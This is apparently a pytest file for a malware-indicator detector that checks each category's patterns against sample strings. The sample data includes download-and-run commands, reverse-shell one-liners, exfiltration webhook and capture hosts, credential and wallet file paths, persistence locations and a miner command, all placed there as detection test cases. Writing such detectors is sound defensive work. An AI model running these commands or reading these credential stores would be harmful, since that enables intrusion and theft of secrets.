"""Indicator categories: what literals name, matched only through their anchor words."""

from __future__ import annotations

import pytest

from wellcheck.signals.behaviour.indicators import PATTERNS, Category, categories

EXAMPLES: dict[Category, list[str]] = {
    Category.SINK_CHAT: [
        "https://discord.com/api/webhooks/1/abc",
        "https://discordapp.com/api/v9/webhooks/1",
        "https://api.telegram.org/bot123:AA/sendMessage",
        "https://hooks.slack.com/services/T/B/X",
    ],
    Category.SINK_CAPTURE: [
        "https://webhook.site/abc",
        "http://x.oastify.com",
        "abc.interact.sh",
        "https://eo1.m.pipedream.net",
        "https://transfer.sh/x",
        "https://1a2b.ngrok-free.app",
        "https://67b9f37c51192bd378dee810.mockapi.io/tron",
        "x.dnslog.cn",
    ],
    Category.SINK_PASTE: ["https://pastebin.com/raw/x", "https://dpaste.com/api/v2/"],
    Category.RECON_IP: [
        "https://api.ipify.org",
        "https://ifconfig.me/ip",
        "http://ip-api.com/json",
    ],
    Category.CLOUD_SECRET: [
        "AWS_SECRET_ACCESS_KEY",
        "http://169.254.169.254/latest/meta-data/",
        "http://169.254.170.2/v2/credentials",
        "~/.aws/credentials",
    ],
    Category.DEV_SECRET: ["~/.ssh/id_rsa", "/home/x/.kube/config", "~/.git-credentials", ".pypirc"],
    Category.BROWSER: [r"Google\Chrome\User Data\Default\Login Data", "Local State", "logins.json"],
    Category.DISCORD_APP: [r"C:\Users\x\AppData\Roaming\discord\Local Storage"],
    Category.TOKEN_STORE: [r"discord\Local Storage\leveldb", "dQw4w9WgXcQ:abc"],
    Category.WALLET: ["wallet.dat", r"Exodus\exodus.wallet", "nkbihfbeogaeaoehlefnkodbefgpgknn"],
    Category.WALLET_SECRET: [
        "mnemonic",
        "private_key",
        "seed phrase",
        "Enter your 12 seed phrases",
    ],
    Category.WALLET_ADDRESS: [r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", r"0x[a-fA-F0-9]{40}"],
    Category.SHELL_DOWNLOAD: [
        "curl -fsSL https://x/i.sh | bash",
        "wget -q http://x/b -O /tmp/b && chmod +x /tmp/b",
        "powershell -NoP -enc SQBFAFgA",
        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
        "certutil -urlcache -split -f http://x/a.exe a.exe",
        "mshta http://x/a.hta",
    ],
    Category.REVERSE_SHELL: ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 1"],
    Category.PERSISTENCE: [
        r"Software\Microsoft\Windows\CurrentVersion\Run",
        r"AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup",
        "schtasks /create /sc onlogon",
        "~/.bashrc",
        "/etc/cron.d/x",
        "~/.config/systemd/user/x.service",
    ],
    Category.PYTHON_HOOK: ["/usr/lib/python3/site-packages/zz.pth", "sitecustomize.py"],
    Category.WINDOWS_PATH: ["%APPDATA%\\x", "APPDATA"],
    Category.WINDOWS_EXECUTABLE: ["C:\\dark.exe", "run.bat"],
    Category.MINER: [
        "stratum+tcp://pool.example:3333",
        "./xmrig --donate-level 1",
        "gulf.moneroocean.stream",
    ],
    Category.OBFUSCATOR: ["__pyarmor__", "pyarmor_runtime_000000", "Obfuscated with BlankOBF"],
}
PLAIN = [
    "Return the cookies of the response.",
    "Login with your user name and password.",
    "The local state of the widget",
    "See https://docs.python.org/3/library/subprocess.html",
    "wallet",  # a word on its own, not a wallet file
    "curl",
    "Use the web view.",
    "profile",
]


@pytest.mark.parametrize("category", list(Category))
def test_every_category_matches_its_examples(category: Category) -> None:
    assert category in PATTERNS
    for text in EXAMPLES[category]:
        assert category in categories(text), text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_names_nothing(text: str) -> None:
    assert categories(text) == {}
